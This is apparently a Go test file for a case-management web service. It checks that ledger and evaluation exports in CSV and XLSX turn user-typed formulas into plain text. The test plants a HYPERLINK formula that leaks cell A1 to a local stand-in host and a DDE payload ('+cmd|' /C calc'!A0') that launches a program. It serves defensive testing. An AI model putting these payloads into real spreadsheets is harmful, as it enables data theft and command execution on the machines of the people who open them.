package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/xiuhua/xiuhua/internal/org"
	"github.com/xiuhua/xiuhua/internal/store"
	"github.com/xuri/excelize/v2"
)

// A description someone typed as a formula, and a department named like
// one, reach ledger and evaluation files as text, never as formulas.
func TestExportsNeutraliseFormulas(t *testing.T) {
	s, a := server(t)
	ctx := context.Background()
	cs, _ := a.Store.Cases(ctx, store.CaseFilter{Limit: 1})
	c := cs[0]
	evil := `=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"点击查看")`
	worker := tokenOf(t, a, "gw"+c.Place.Grid)
	j, _ := json.Marshal(map[string]any{"category": "M06011", "description": evil, "address": "@SUM(1+1)", "lon": c.Point.Lon, "lat": c.Point.Lat})
	code, body, _ := send(t, "POST", s.URL+"/api/v1/cases", worker, bytes.NewReader(j), map[string]string{"Content-Type": "application/json"})
	var made struct{ Number string }
	if code != 201 || json.Unmarshal([]byte(body), &made) != nil {
		t.Fatalf("report: %d %s", code, body)
	}
	code, body, _ = getAs(t, s.URL+"/api/v1/ledger?format=csv&grid="+c.Place.Grid, worker)
	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff")))
	cr.FieldsPerRecord = -1 // the totals row is shorter
	rows, err := cr.ReadAll()
	if code != 200 || err != nil {
		t.Fatalf("ledger csv %d %v", code, err)
	}
	found := false
	for _, r := range rows {
		if r[0] == made.Number {
			found = true
			if r[len(r)-1] != "'"+evil {
				t.Errorf("csv description %q, want it behind an apostrophe", r[len(r)-1])
			}
		}
	}
	if !found {
		t.Fatalf("case %s not in the grid worker's ledger", made.Number)
	}
	code, body, _ = getAs(t, s.URL+"/api/v1/ledger?format=xlsx&grid="+c.Place.Grid, worker)
	x, err := excelize.OpenReader(strings.NewReader(body))
	if code != 200 || err != nil {
		t.Fatalf("ledger xlsx %d %v", code, err)
	}
	sh := x.GetSheetName(0)
	xr, _ := x.GetRows(sh)
	found = false
	for i, r := range xr {
		if len(r) > 0 && r[0] == made.Number {
			found = true
			cell, _ := excelize.CoordinatesToCellName(len(r), i+1)
			typ, _ := x.GetCellType(sh, cell)
			formula, _ := x.GetCellFormula(sh, cell)
			style, _ := x.GetCellStyle(sh, cell)
			st, _ := x.GetStyle(style)
			if r[len(r)-1] != evil || typ != excelize.CellTypeInlineString || formula != "" || st == nil || st.NumFmt != 49 {
				t.Errorf("xlsx description %q: type %v, formula %q, style %+v; want the text as a Text string cell", r[len(r)-1], typ, formula, st)
			}
		}
	}
	if !found {
		t.Fatalf("case %s not in the xlsx ledger", made.Number)
	}
	// A department named like a formula, in the evaluation file.
	u := org.Unit{Code: "evil", Name: "+cmd|' /C calc'!A0", Kind: org.KindDepartment}
	if err := a.Store.CreateUnit(ctx, &u); err != nil {
		t.Fatal(err)
	}
	code, body, _ = get(t, s.URL+"/api/v1/evaluations?group=department&period=2026-10&format=csv")
	if code != 200 || !strings.Contains(body, ",'+cmd|' /C calc'!A0,") || strings.Contains(body, ",+cmd") {
		t.Fatalf("evaluation csv %d: the unit's name is not neutralised", code)
	}
}
